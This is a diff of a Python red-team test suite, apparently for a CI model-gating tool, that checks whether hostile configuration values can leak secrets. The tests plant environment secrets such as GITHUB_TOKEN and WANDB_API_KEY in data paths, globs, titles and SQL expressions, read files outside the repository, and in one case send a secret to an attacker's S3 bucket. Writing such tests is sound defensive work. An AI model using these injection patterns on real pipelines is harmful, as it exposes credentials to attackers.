@@ -4,12 +4,12 @@ from __future__ import annotations
 
 from typing import TYPE_CHECKING
 
-from tests.redteam.trick import ANY, INTENT, Mode, trick
+from tests.redteam.trick import ANY, ERROR, INTENT, RED, Mode, trick
 
 if TYPE_CHECKING:
     from tests.redteam.repository import Repository
 
-SINGLE = (Mode.SINGLE,)
+SINGLE = (Mode.SINGLE, Mode.TWO_JOBS)
 
 
 def _data(repo: Repository, path: str) -> None:
@@ -17,25 +17,19 @@ def _data(repo: Repository, path: str) -> None:
     repo.configure("gates:\n", "gates:\n  data: {max_share: 0}\n")
 
 
-@trick(
-    ANY, INTENT, modes=SINGLE, single="the value is in the error: log, comment, check run, evidence"
-)
+@trick(ANY, INTENT, modes=(*SINGLE, Mode.EVIDENCE))
 def token_in_the_path_of_data(repo: Repository) -> None:
     """Names data whose path holds the token: the error that it is not there would show it."""
     _data(repo, "x/${env:GITHUB_TOKEN}.csv")
 
 
-@trick(
-    ANY, INTENT, modes=SINGLE, single="the value is in the error: log, comment, check run, evidence"
-)
+@trick(ANY, INTENT, modes=(*SINGLE, Mode.EVIDENCE))
 def secret_in_the_path_of_data(repo: Repository) -> None:
     """Names data whose path holds the tracking server's key."""
     _data(repo, "x/${env:WANDB_API_KEY}.csv")
 
 
-@trick(
-    ANY, INTENT, modes=SINGLE, single="the value is in the error: log, comment, check run, evidence"
-)
+@trick(ANY, INTENT, modes=SINGLE)
 def secret_in_a_glob(repo: Repository) -> None:
     """Names data by a pattern that holds a secret."""
     _data(repo, "${env:WANDB_API_KEY}*/**/[a].csv")
@@ -47,17 +41,13 @@ def secret_in_an_address(repo: Repository) -> None:
     _data(repo, "postgres://127.0.0.1:9/${env:WANDB_API_KEY}?table=x")
 
 
-@trick(
-    ANY, INTENT, modes=SINGLE, single="the value is in the error: log, comment, check run, evidence"
-)
+@trick(ANY, INTENT, modes=SINGLE)
 def secret_in_the_path_of_predictions(repo: Repository) -> None:
     """Names predictions whose path holds a secret."""
     repo.configure("out/predictions.csv", '"out/${env:GITHUB_TOKEN}.csv"')
 
 
-@trick(
-    ANY, INTENT, modes=SINGLE, single="the value is in the error: log, comment, check run, evidence"
-)
+@trick(ANY, INTENT, modes=SINGLE)
 def secret_in_the_path_of_the_baseline(repo: Repository) -> None:
     """Names a baseline's file whose path holds a secret."""
     repo.add_to_config('baseline: {predictions: "out/${env:AWS_SECRET_ACCESS_KEY}.csv"}')
@@ -84,9 +74,7 @@ def secret_in_the_reference_of_drift(repo: Repository) -> None:
     repo.configure("gates:\n", "gates:\n  drift: {max_share: 0}\n")
 
 
-@trick(
-    ANY, INTENT, modes=SINGLE, single="the value is in the error: log, comment, check run, evidence"
-)
+@trick(ANY, INTENT, modes=SINGLE)
 def secret_in_the_path_of_an_estimate(repo: Repository) -> None:
     """Names rows to be estimated whose path holds a secret."""
     repo.add_to_config('estimate: {path: "${env:WANDB_API_KEY}.csv"}')
@@ -108,7 +96,7 @@ def secret_in_a_title(repo: Repository) -> None:
     repo.configure("{plots: none}", "{plots: none, title: 'Model ${env:WANDB_API_KEY}'}")
 
 
-@trick(ANY, INTENT, works="the file's columns are in the error: log, comment, check run, evidence")
+@trick(ANY, INTENT)
 def file_outside_the_repository_as_data(repo: Repository) -> None:
     """Names a file outside of the repository as data: its first line would be in the report."""
     _data(repo, str(repo.root.parent.parent / "outside.csv"))
@@ -167,3 +155,77 @@ def environment_in_an_expression(repo: Repository) -> None:
         "[{name: leak, expression: \"CAST(getenv('WANDB_API_KEY') AS INTEGER) = 1\"}]}"
     )
     repo.configure("gates:\n", "gates:\n  data.leak: {max: 0}\n")
+
+
+@trick(RED, INTENT, modes=SINGLE)
+def secret_in_a_first_configuration(repo: Repository) -> None:
+    """Adds the first mlgate.yaml, which names a secret: nobody has merged it yet."""
+    config = (repo.root / "mlgate.yaml").read_text()
+    with repo.on_main():
+        repo.remove("mlgate.yaml")
+    repo.write("mlgate.yaml", config)
+    repo.configure("out/predictions.csv", '"out/${env:WANDB_API_KEY}.csv"')
+
+
+@trick(ERROR, INTENT, modes=SINGLE)
+def secret_of_another_key(repo: Repository) -> None:
+    """Names a variable that main names too, but at another key, where its value would be shown."""
+    with repo.on_main():
+        repo.add_to_config('baseline: {id_key: "${env:WANDB_API_KEY}"}')
+    _data(repo, "x/${env:WANDB_API_KEY}.csv")
+
+
+@trick(ERROR, INTENT, modes=SINGLE)
+def secret_in_a_longer_value(repo: Repository) -> None:
+    """Adds to a value of main's that names a secret, so that it leads elsewhere."""
+    with repo.on_main():
+        _data(repo, "x/${env:WANDB_API_KEY}.csv")
+    repo.configure("x/${env", "../out/${env")
+
+
+@trick(ERROR, INTENT, modes=SINGLE)
+def secret_sent_away(repo: Repository) -> None:
+    """Names a bucket of somebody else's, so that the secret is in the request for it."""
+    _data(repo, "s3://collected-by-mallory/${env:WANDB_API_KEY}.csv")
+
+
+@trick(ERROR, INTENT, modes=SINGLE)
+def file_outside_the_repository_as_groups(repo: Repository) -> None:
+    """Names a file of groups outside of the repository, whose columns an error would list."""
+    outside = repo.root.parent.parent / "outside.csv"
+    repo.add_to_config(
+        f"fairness: {{sensitive: {{sex: {{column: sex, path: '{outside}', id: id}}}}}}"
+    )
+    repo.configure("gates:\n", "gates:\n  fairness.accuracy[sex=F]: {min: 0.1}\n")
+
+
+@trick(ERROR, INTENT)
+def file_outside_the_repository_as_a_baseline(repo: Repository) -> None:
+    """Compares with a file outside of the repository: the error that it has no label lists it."""
+    outside = repo.root.parent.parent / "outside.csv"
+    repo.add_to_config(f"baseline: {{predictions: '{outside}'}}")
+
+
+@trick(ANY, INTENT)
+def file_outside_the_repository_as_a_reference(repo: Repository) -> None:
+    """Names a file outside of the repository on both sides of drift: its columns are results."""
+    outside = repo.root.parent.parent / "outside.csv"
+    repo.add_to_config(f"drift: {{reference: '{outside}', current: '{outside}'}}")
+    repo.configure("gates:\n", "gates:\n  drift: {max_share: 0}\n")
+
+
+@trick(ANY, INTENT)
+def file_outside_the_repository_as_rows_without_labels(repo: Repository) -> None:
+    """Names a file outside of the repository as the rows of an estimate."""
+    outside = repo.root.parent.parent / "outside.csv"
+    repo.add_to_config(f"estimate: {{path: '{outside}'}}")
+    repo.configure("gates:\n", "gates:\n  estimate.accuracy: {min: 0.1}\n")
+
+
+@trick(ERROR, INTENT)
+def column_that_a_file_outside_lacks(repo: Repository) -> None:
+    """Asks for a column of main's own data outside of the repository: the error lists no others."""
+    outside = repo.root.parent.parent / "outside.csv"
+    with repo.on_main():
+        _data(repo, str(outside))
+    repo.configure("column: missing", "column: another")
